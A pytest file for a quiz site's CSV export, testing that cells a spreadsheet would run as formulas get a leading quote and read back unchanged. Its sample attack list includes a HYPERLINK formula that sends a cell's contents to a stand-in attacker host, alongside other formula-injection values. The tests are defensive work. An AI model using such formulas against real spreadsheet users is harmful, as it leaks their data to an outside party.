"""CSV cells a spreadsheet would run as formulas go out guarded, and quizsite's
own CSV reads back exactly as it was written."""

import pytest

from questions.formats.spreadsheet import csv_text, guarded, unguarded

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1", "=1"]  # fmt: skip


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(cell):
    assert guarded(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.25", "+3", "12", "-.5", "보통 글", "", "a=b", "'그냥", "'-5"])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert guarded(cell) == cell


@pytest.mark.parametrize("cell", [*ATTACKS, "'=1", "''=1", "'그냥", "''그냥", "-0.25", "'-5", ""])
def test_every_text_reads_back_as_it_was(cell):
    assert unguarded(guarded(cell)) == cell


def test_the_writer_guards_every_cell_and_keeps_numbers():
    text = csv_text([["이름", "점수"], ["=cmd", -1.5], [None, 3]])
    assert text == "\ufeff이름,점수\r\n'=cmd,-1.5\r\n,3\r\n"
